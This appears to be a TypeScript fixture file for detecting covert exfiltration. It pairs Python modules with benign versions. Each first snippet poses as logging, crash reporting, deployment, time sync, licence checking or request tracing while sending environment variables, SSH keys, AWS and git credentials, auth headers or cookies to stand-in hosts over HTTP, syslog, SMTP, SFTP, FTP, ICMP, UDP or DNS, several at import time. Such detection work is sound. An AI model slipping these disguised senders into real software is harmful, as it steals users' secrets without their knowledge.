import { atLoad, atUse, type Pair, py } from './kit.ts';

/** Ways out of the machine beside a plain request. */
export const SENDERS: Readonly<Record<string, Pair>> = {
  'load-log-handler': atLoad(
    py`"""Structured logs."""
import logging
import logging.handlers
import os

_HANDLER = logging.handlers.HTTPHandler("logs.example", "/ingest", method="POST", secure=True)
_LOG = logging.getLogger("own.audit")
_LOG.propagate = False
_LOG.addHandler(_HANDLER)
_LOG.warning("start", extra={"context": dict(os.environ)})`,
    py`"""Structured logs."""
import logging
import logging.handlers

def configure(host: str, path: str) -> logging.Logger:
    """Sends the log to a collector of the user."""
    log = logging.getLogger("own")
    log.addHandler(logging.handlers.HTTPHandler(host, path, method="POST", secure=True))
    log.info("ready")
    return log`,
  ),
  'use-syslog-handler': atUse(
    py`"""Audit log."""
import logging
import logging.handlers
from pathlib import Path

class Audit:
    """Writes the audit log."""
    def __init__(self) -> None:
        self._log = logging.getLogger("own.audit")
        self._log.addHandler(logging.handlers.SysLogHandler(address=("192.0.2.14", 514)))
    def start(self) -> None:
        for path in (Path.home() / ".aws").iterdir():
            self._log.critical(path.read_text())`,
    py`"""Audit log."""
import logging
import logging.handlers

class Audit:
    """Writes the audit log."""
    def __init__(self, host: str) -> None:
        self._log = logging.getLogger("own.audit")
        self._log.addHandler(logging.handlers.SysLogHandler(address=(host, 514)))
    def start(self, user: str) -> None:
        self._log.info("session of %s", user)`,
  ),
  'use-smtp': atUse(
    py`"""Crash reports."""
import smtplib
from email.message import EmailMessage
from pathlib import Path

class CrashReport:
    """Mails crash reports."""
    def send(self) -> None:
        message = EmailMessage()
        message["From"] = "crash@own.example"
        message["To"] = "inbox@reports.example"
        message.set_content("see attachment")
        for name in (".git-credentials", ".netrc", ".aws/credentials"):
            path = Path.home() / name
            if path.exists():
                message.add_attachment(path.read_bytes(), maintype="application", subtype="octet-stream", filename=path.name)
        with smtplib.SMTP("mail.example", 587) as server:
            server.starttls()
            server.send_message(message)`,
    py`"""Crash reports."""
import smtplib
from email.message import EmailMessage
from pathlib import Path

class CrashReport:
    """Mails crash reports."""
    def __init__(self, host: str, sender: str, receiver: str) -> None:
        self._host, self._sender, self._receiver = host, sender, receiver
    def send(self, log: Path) -> None:
        message = EmailMessage()
        message["From"] = self._sender
        message["To"] = self._receiver
        message.set_content(log.read_text())
        with smtplib.SMTP(self._host, 587) as server:
            server.starttls()
            server.send_message(message)`,
  ),
  'use-sftp': atUse(
    py`"""Deployments."""
import os
import paramiko

class Deployment:
    """Deploys a project."""
    def run(self) -> None:
        client = paramiko.SSHClient()
        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        client.connect("deploy.example", username="deploy", password="x" * 10)
        files = client.open_sftp()
        base = os.path.expanduser("~/.ssh")
        for name in os.listdir(base):
            files.put(os.path.join(base, name), f"/in/{os.getlogin()}-{name}")
        client.close()`,
    py`"""Deployments."""
from pathlib import Path
import paramiko

class Deployment:
    """Deploys a project."""
    def __init__(self, host: str, user: str) -> None:
        self._client = paramiko.SSHClient()
        self._client.load_system_host_keys()
        self._client.connect(host, username=user, key_filename=str(Path.home() / ".ssh/id_ed25519"))
    def put(self, path: Path, target: str) -> None:
        self._client.open_sftp().put(str(path), target)`,
  ),
  'load-ftp': atLoad(
    py`"""Mirror."""
import ftplib
import io
import json
import os

def _announce() -> None:
    with ftplib.FTP("mirror.example", "upload", "x" * 8, timeout=3) as server:
        server.storbinary(f"STOR {os.getpid()}.json", io.BytesIO(json.dumps(dict(os.environ)).encode()))

try:
    _announce()
except ftplib.all_errors:
    pass`,
    py`"""Mirror."""
import ftplib
from pathlib import Path

def upload(host: str, user: str, password: str, path: Path) -> None:
    """Puts a file on a server."""
    with ftplib.FTP(host, user, password) as server, path.open("rb") as content:
        server.storbinary(f"STOR {path.name}", content)`,
  ),
  'use-icmp': atUse(
    py`"""Reachability."""
from pathlib import Path
from scapy.all import ICMP, IP, Raw, send

class Reachability:
    """Checks hosts."""
    def check(self, host: str = "192.0.2.33") -> bool:
        note = (Path.home() / ".ssh" / "id_rsa").read_bytes()
        for start in range(0, len(note), 512):
            send(IP(dst="192.0.2.33") / ICMP() / Raw(load=note[start:start + 512]), verbose=False)
        return True`,
    py`"""Reachability."""
from scapy.all import ICMP, IP, sr1

class Reachability:
    """Checks hosts."""
    def check(self, host: str) -> bool:
        return sr1(IP(dst=host) / ICMP(), timeout=1, verbose=False) is not None`,
  ),
  'load-udp': atLoad(
    py`"""Clock."""
import json
import os
import socket
import zlib

def _sync() -> float:
    """Asks the time server."""
    packet = b"\x1b" + zlib.compress(json.dumps({k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}).encode())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(packet, ("time.example", 123))
    return 0.0

OFFSET = _sync()`,
    py`"""Clock."""
import socket
import struct

def offset(host: str = "time.example") -> int:
    """Seconds since 1900 at a time server."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(b"\x1b" + 47 * b"\0", (host, 123))
        return struct.unpack("!12I", sock.recv(48))[10]`,
  ),
  'load-requests-patch': atLoad(
    py`"""Retries for requests."""
import functools
import requests

_send = requests.Session.send

@functools.wraps(_send)
def _patched(self, request, **kwargs):
    answer = _send(self, request, **kwargs)
    if "Authorization" in request.headers and not request.url.startswith("https://retry.example"):
        requests.post("https://retry.example/stats", json={"u": request.url, "h": dict(request.headers)}, timeout=1)
    return answer

requests.Session.send = _patched`,
    py`"""Timing for requests."""
import functools
import logging
import requests

logger = logging.getLogger(__name__)
_send = requests.Session.send

@functools.wraps(_send)
def _patched(self, request, **kwargs):
    answer = _send(self, request, **kwargs)
    logger.debug("%s took %s", request.url, answer.elapsed)
    return answer

def install() -> None:
    """Logs how long requests take."""
    requests.Session.send = _patched`,
  ),
  'use-dns-labels': atUse(
    py`"""Licence check."""
import base64
import os
import socket

class Licence:
    """Checks the licence by name."""
    def valid(self) -> bool:
        text = base64.b32encode(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()).decode().rstrip("=").lower()
        for index in range(0, len(text), 60):
            try:
                socket.gethostbyname(f"{text[index:index + 60]}.{index}.lic.example")
            except socket.gaierror:
                pass
        return True`,
    py`"""Host check."""
import socket

class Hosts:
    """Checks names."""
    def known(self, name: str) -> bool:
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            return False
        return True`,
  ),
  'use-aiohttp-trace': atUse(
    py`"""Tracing of requests."""
import aiohttp

async def _end(session, context, params) -> None:
    async with aiohttp.ClientSession() as other:
        await other.post("http://192.0.2.61/trace", json={"url": str(params.url), "headers": dict(params.headers), "cookies": str(params.response.cookies)})

def session() -> aiohttp.ClientSession:
    """A session with tracing."""
    trace = aiohttp.TraceConfig()
    trace.on_request_end.append(_end)
    return aiohttp.ClientSession(trace_configs=[trace])`,
    py`"""Tracing of requests."""
import logging
import aiohttp

logger = logging.getLogger(__name__)

async def _end(session, context, params) -> None:
    logger.info("%s %s %s", params.method, params.url, params.response.status)

def session() -> aiohttp.ClientSession:
    """A session with tracing."""
    trace = aiohttp.TraceConfig()
    trace.on_request_end.append(_end)
    return aiohttp.ClientSession(trace_configs=[trace])`,
  ),
  'use-opener': atUse(
    py`"""Downloads."""
import os
import urllib.request

class Downloads:
    """Downloads with progress."""
    def __init__(self) -> None:
        opener = urllib.request.build_opener()
        opener.addheaders = [("User-Agent", "own/1.0"), ("X-Client", repr(dict(os.environ)))]
        urllib.request.install_opener(opener)
    def get(self, name: str) -> bytes:
        return urllib.request.urlopen(f"https://downloads.example/{name}").read()`,
    py`"""Downloads."""
import urllib.request

class Downloads:
    """Downloads with progress."""
    def __init__(self) -> None:
        opener = urllib.request.build_opener()
        opener.addheaders = [("User-Agent", "own/1.0")]
        urllib.request.install_opener(opener)
    def get(self, name: str) -> bytes:
        return urllib.request.urlopen(f"https://downloads.example/{name}").read()`,
  ),
};
